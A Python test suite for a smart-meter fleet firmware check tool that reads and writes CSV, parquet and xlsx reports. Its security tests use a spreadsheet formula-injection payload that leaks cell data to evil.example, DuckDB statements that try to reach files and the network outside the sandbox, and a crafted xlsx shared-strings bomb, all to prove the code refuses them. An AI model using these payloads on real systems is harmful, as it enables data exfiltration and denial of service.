"""Fleet checks of a file: the same groups and counts as fleetStatus, every format, one report row per input row."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import asyncpg
import duckdb
import openpyxl
import pytest

from loaders.demo import demo_identities, load_demo_data
from resolvers import fleet
from spreadsheets.fleet_check import check_file
from spreadsheets.fleet_files import FleetFileError, open_fleet
from tests.builders import SUPPLIER, Builder, context_for

HEADER = ["MPXN", "manufacturerId", "model_id", "Hardware_Version", "firmwareVersion"]


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def as_format(source: Path, kind: str) -> Path:
    """The same rows as parquet (DuckDB) or xlsx (openpyxl), every cell text."""
    target = source.with_suffix(f".{kind}")
    if kind == "parquet":
        duckdb.sql(
            f"copy (select * from read_csv('{source}', all_varchar=true)) to '{target}' (format parquet)"
        )
    elif kind == "xlsx":
        book = openpyxl.Workbook()
        sheet = book.active
        with source.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                sheet.append(row)
        book.save(target)
    return target


def report_rows(path: Path) -> list[dict[str, object]]:
    relation = duckdb.sql(f"select * from '{path}' order by row")
    names = relation.columns
    return [dict(zip(names, r, strict=True)) for r in relation.fetchall()]


@pytest.fixture
async def demo(pool: asyncpg.Pool) -> list[tuple[str, str, str, str]]:
    async with pool.acquire() as conn:
        await load_demo_data(conn)
        return await demo_identities(conn, 2000)


async def test_a_100k_fleet_gives_fleet_status_groups_and_counts(
    pool: asyncpg.Pool, demo: list[tuple[str, str, str, str]], tmp_path: Path
) -> None:
    raw: list[fleet.RawDevice] = []
    for n in range(100_000):
        m, mo, hw, fw = demo[(n * 7) % len(demo)]
        if n % 3 == 0:
            m, fw = f" {m.lower()} ", f"0x{fw}"  # what fleetStatus normalises, the file must too
        if n % 997 == 0:
            fw = "12.34"  # malformed: counted, never failing the file
        raw.append((f"MPAN-{n:07d}", m, mo, hw, fw))
    source = write_csv(tmp_path / "fleet.csv", [list(map(str, d)) for d in raw])

    expected = await fleet.fleet_status(context_for(pool, SUPPLIER), fleet.FleetDevices.of(raw))
    done = await check_file(context_for(pool, SUPPLIER), source, tmp_path / "report.parquet")
    got = done.report.result

    assert [(g.identity, g.count) for g in got.groups] == [(g.identity, g.count) for g in expected.groups]
    assert done.report.summary() == {
        "total": 100_000,
        "distinct": expected.distinct,
        "upToDate": expected.up_to_date,
        "outdated": expected.outdated,
        "notOnCpl": expected.not_on_cpl,
        "noUpgradePath": expected.no_upgrade_path,
        "invalid": expected.invalid,
    }
    assert expected.up_to_date and expected.outdated and expected.invalid == 101  # the fleet exercises each
    rows = duckdb.sql(
        f"select count(*), count(distinct ref), min(row), max(row) from '{tmp_path / 'report.parquet'}'"
    )
    assert rows.fetchall()[0] == (100_000, 100_000, 2, 100_001)
    with duckdb.connect() as conn:  # every row where the file had it, read back on one thread
        conn.execute("set threads = 1")
        out_of_order = conn.execute(
            "select count(*) filter (where row <> previous + 1) from (select row, lag(row, 1, 1) over ()"
            f" as previous from read_parquet('{tmp_path / 'report.parquet'}'))"
        )
        assert out_of_order.fetchall() == [(0,)]
    invalid = duckdb.sql(
        f"select row from '{tmp_path / 'report.parquet'}' where status = 'invalid' order by row"
    )
    assert [r[0] - 2 for r in invalid.fetchall()] == [p.index for p in expected.problems]


@pytest.fixture
async def model(pool: asyncpg.Pool) -> None:
    async with pool.acquire() as conn:
        await Builder(conn).chain("00000001", "00000002", "00000003")


ROWS = [
    ["m1", "106c", "4331", "00ac", "00000001"],  # two steps behind
    ["m2", "106C", "4331", "00AC", "00000003"],  # latest
    ["m3", "106C", "4331", "00AC", "0000000Z"],  # malformed: row 4
    ["m4", " 106C ", "4331", "00AC", "0x2"],  # one step behind, written as the CPL might
    ["m5", "FFFF", "0001", "0000", "00000001"],  # not on the CPL, model unknown
]


@pytest.mark.parametrize(
    ("kind", "out"),
    [("csv", "csv"), ("parquet", "parquet"), ("xlsx", "xlsx"), ("csv", "xlsx"), ("xlsx", "parquet")],
)
async def test_every_format_in_and_out(
    pool: asyncpg.Pool, model: None, tmp_path: Path, kind: str, out: str
) -> None:
    source = as_format(write_csv(tmp_path / "meters.csv", ROWS), kind)
    target = tmp_path / f"report.{out}"
    done = await check_file(context_for(pool, SUPPLIER), source, target)
    summary = done.report.summary()
    assert summary == {
        "total": 5,
        "distinct": 4,
        "upToDate": 1,
        "outdated": 2,
        "notOnCpl": 1,
        "noUpgradePath": 0,
        "invalid": 1,
    }
    assert done.problems == [
        {
            "row": 4,
            "ref": "m3",
            "field": "firmwareVersion",
            "message": "firmwareVersion must be 8 hexadecimal digits, got '0000000Z'",
        }
    ]
    devices = _devices(target, out)
    assert [(d["row"], d["ref"], d["status"], d["upgrade_path"]) for d in devices] == [
        (2, "m1", "outdated", "00000002 > 00000003"),
        (3, "m2", "up_to_date", ""),
        (4, "m3", "invalid", None),
        (5, "m4", "outdated", "00000003"),
        (6, "m5", "unknown", None),
    ]
    assert devices[3]["firmware_version"] == "00000002" and devices[3]["manufacturer_id"] == "106C"
    campaign = done.report.campaign
    assert [(c.step, c.firmware_version, c.devices) for c in campaign] == [
        (1, "00000002", 1),
        (2, "00000003", 2),
    ]
    assert all(len(c.image_hash) == 64 and c.cpl_entry for c in campaign)
    makers = {m.manufacturer_id: m for m in done.report.manufacturers}
    assert makers["106C"].firmware_contact == "Firmware Desk <firmware@106c.example.com> +44 20 7946 0000"
    assert (makers["106C"].devices, makers["106C"].outdated, makers["FFFF"].not_on_cpl) == (3, 2, 1)


def _devices(target: Path, kind: str) -> list[dict[str, object]]:
    if kind != "xlsx":
        rows = report_rows(target)
        if kind == "csv":  # csv has no types: compare as text does
            for row in rows:
                row["upgrade_path"] = (
                    row["upgrade_path"]
                    if row["upgrade_path"] is not None
                    else ("" if row["status"] == "up_to_date" else None)
                )
        return rows
    book = openpyxl.load_workbook(target, read_only=True)
    assert book.sheetnames == ["Summary", "Manufacturers", "Campaign", "Devices"]
    sheet = list(book["Devices"].iter_rows(values_only=True))
    width = len(sheet[0])  # read-only openpyxl leaves out a row's trailing empty cells
    found = [dict(zip(sheet[0], [*r, *[None] * (width - len(r))], strict=True)) for r in sheet[1:]]
    for row in found:
        row["upgrade_path"] = "" if row["status"] == "up_to_date" else row["upgrade_path"]
    return found


async def test_cpl_headers_and_hardware_octets(pool: asyncpg.Pool, model: None, tmp_path: Path) -> None:
    header = [
        "Device_Model.manufacturer_identifier",
        "Device_Model.model_identifier",
        "Device_Model.hardware_version.version",
        "Device_Model.hardware_version.revision",
        "Device_Model.firmware_version",
    ]
    source = write_csv(tmp_path / "cpl.csv", [["106C", "4331", "0", "AC", "00000003"]], header)
    done = await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r.csv")
    assert done.report.summary()["upToDate"] == 1


async def test_a_file_without_an_identity_column_is_refused(pool: asyncpg.Pool, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "bad.csv", [["1", "2"]], ["ref", "manufacturer_id"])
    with pytest.raises(FleetFileError, match="model_id, hardware_version, firmware_version"):
        await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r.csv")


async def test_an_unreadable_file_is_refused_without_the_servers_paths(
    pool: asyncpg.Pool, tmp_path: Path
) -> None:
    """DuckDB names the file it could not read by its full path; the caller is told its file's name."""
    source = tmp_path / "meters.parquet"
    source.write_bytes(b"not a parquet file at all")
    with pytest.raises(FleetFileError) as refused:
        await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r.csv")
    assert str(refused.value).startswith("not a readable fleet file: ")
    assert "'meters.parquet'" in str(refused.value) and str(tmp_path) not in str(refused.value)


async def test_a_file_name_is_a_name_not_a_glob_pattern(
    pool: asyncpg.Pool, model: None, tmp_path: Path
) -> None:
    """DuckDB reads a path as a glob: `meters[1].csv` would have read `meters1.csv`, another file."""
    write_csv(tmp_path / "meters1.csv", ROWS)
    source = write_csv(tmp_path / "meters[1].csv", ROWS[:1])
    done = await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r[1].csv")
    assert done.report.summary()["total"] == 1
    assert [r["ref"] for r in report_rows(tmp_path / "r[1].csv")] == ["m1"]


REFUSED = r"disabled by configuration|enable_external_access is disabled|while database is running"


@pytest.mark.parametrize(
    "statement",
    [
        "select * from read_csv('{outside}')",
        "select * from glob('{here}/*')",
        "copy (select 1) to '{here}/written.csv'",
        "attach '{here}/other.duckdb'",
        "install httpfs",
        "set enable_external_access = true",
        "set allowed_directories = ['/']",
    ],
)
def test_a_fleet_connection_reaches_no_other_file(tmp_path: Path, statement: str) -> None:
    """Once loaded, the fleet's DuckDB reads only its file and writes only in the report's directory:
    whatever a query might be made to say, the server's files and the network stay out of reach."""
    (tmp_path / "out").mkdir()
    outside = write_csv(tmp_path / "secret.csv", [["x", "106C", "4331", "00AC", "00000001"]])
    source = write_csv(tmp_path / "meters.csv", ROWS)
    with open_fleet(source, writes_to=tmp_path / "out") as fleet:
        assert fleet.rows == len(ROWS)
        fleet.conn.execute(f"copy (select 1) to '{tmp_path / 'out' / 'allowed.csv'}'")
        with pytest.raises(duckdb.Error, match=REFUSED):
            fleet.conn.execute(statement.format(outside=outside, here=tmp_path))
    assert (tmp_path / "out" / "allowed.csv").exists() and not (tmp_path / "written.csv").exists()


async def test_a_relative_report_name_is_written(
    pool: asyncpg.Pool, model: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    write_csv(tmp_path / "meters.csv", ROWS)
    done = await check_file(context_for(pool, SUPPLIER), Path("meters.csv"), Path("report.csv"))
    assert done.files[0] == Path("report.csv") and len(report_rows(tmp_path / "report.csv")) == len(ROWS)


@pytest.mark.parametrize("out", ["xlsx", "csv"])
async def test_text_in_a_report_never_runs_as_a_formula(
    pool: asyncpg.Pool, model: None, tmp_path: Path, out: str
) -> None:
    """A manufacturer's contact name and a ref from the supplier's own file reach the report as text:
    a string cell in xlsx, behind an apostrophe (every field quoted) in csv."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for firmware")'
    await pool.execute("update contacts set name = $1 where manufacturer_id = '106C'", evil)
    rows = [["=2+5", "106C", "4331", "00AC", "00000001"], ["@SUM(1)", "106C", "4331", "00AC", "00000003"]]
    target = tmp_path / f"report.{out}"
    await check_file(context_for(pool, SUPPLIER), write_csv(tmp_path / "meters.csv", rows), target)
    if out == "xlsx":
        book = openpyxl.load_workbook(target)
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert {c.value for c in cells} >= {"=2+5", "@SUM(1)"}
        assert any(isinstance(c.value, str) and c.value.startswith(evil) for c in cells)
        return
    devices = target.read_text(encoding="utf-8")
    assert '"\'=2+5"' in devices and '"\'@SUM(1)"' in devices
    makers = target.with_name("report.manufacturers.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in makers and ',"=HYPERLINK' not in makers


def crafted_xlsx(path: Path, sheet_xml: str | None = None, strings: bytes | None = None) -> Path:
    """A real workbook with its sheet XML or shared strings replaced, as an attacker would upload it."""
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.active.append(ROWS[0])
    book.save(path)
    with zipfile.ZipFile(path) as original:
        members = {name: original.read(name) for name in original.namelist()}
    if sheet_xml is not None:
        members["xl/worksheets/sheet1.xml"] = sheet_xml.encode()
    if strings is not None:
        members["xl/sharedStrings.xml"] = strings
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as crafted:
        for name, data in members.items():
            crafted.writestr(name, data)
    return path


SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<dimension ref="{dimension}"/><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>ref</t></is></c><c r="B1" t="inlineStr"><is><t>manufacturer_id</t></is></c>'
    '<c r="C1" t="inlineStr"><is><t>model_id</t></is></c><c r="D1" t="inlineStr"><is><t>hardware_version</t></is></c>'
    '<c r="E1" t="inlineStr"><is><t>firmware_version</t></is></c></row>{rows}</sheetData></worksheet>'
)


async def test_a_crafted_workbook_is_read_within_bounds(
    pool: asyncpg.Pool, model: None, tmp_path: Path
) -> None:
    """A declared width of 16,384 columns is not padded out; a row numbered past what a sheet holds is
    refused; a shared-strings bomb is refused before openpyxl loads it."""
    wide = SHEET.format(dimension="A1:XFD2000", rows="")
    source = crafted_xlsx(tmp_path / "wide.xlsx", wide)
    done = await check_file(context_for(pool, SUPPLIER), source, tmp_path / "r.csv")
    assert done.report.summary()["total"] == 0
    assert max(len(line) for line in (tmp_path / "r.csv").read_text().splitlines()) < 400
    far = SHEET.format(
        dimension="A1:E2", rows='<row r="2000000"><c r="A2000000" t="inlineStr"><is><t>x</t></is></c></row>'
    )
    with pytest.raises(FleetFileError, match="more than 1,048,576 rows"):
        await check_file(
            context_for(pool, SUPPLIER), crafted_xlsx(tmp_path / "far.xlsx", far), tmp_path / "r.csv"
        )
    bomb = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"<si><t>a</t></si>" * 1_000_000
    )
    with pytest.raises(FleetFileError, match="compressed over 200 times"):
        await check_file(
            context_for(pool, SUPPLIER),
            crafted_xlsx(tmp_path / "bomb.xlsx", strings=bomb),
            tmp_path / "r.csv",
        )
